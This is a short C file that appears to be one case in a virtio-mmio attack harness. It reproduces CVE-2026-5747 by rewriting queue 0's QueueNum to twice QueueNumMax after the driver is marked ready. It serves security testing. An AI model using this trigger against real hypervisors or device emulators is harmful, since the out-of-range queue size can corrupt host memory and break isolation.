/*
 * CVE-2026-5747, the size rewrite within the 16-bit range: after DRIVER_OK, QueueNum of queue 0
 * is set to twice QueueNumMax (a size no activation check would have passed).
 */
#include "attack.h"

static void rewrite(void)
{
    vio_write(DEV, VIRTIO_MMIO_QUEUE_SEL, 0);
    uint32_t max = vio_read(DEV, VIRTIO_MMIO_QUEUE_NUM_MAX);
    vio_write(DEV, VIRTIO_MMIO_QUEUE_NUM, 2 * max);
}

int main(void)
{
    return register_attack("queue-num-double", rewrite);
}
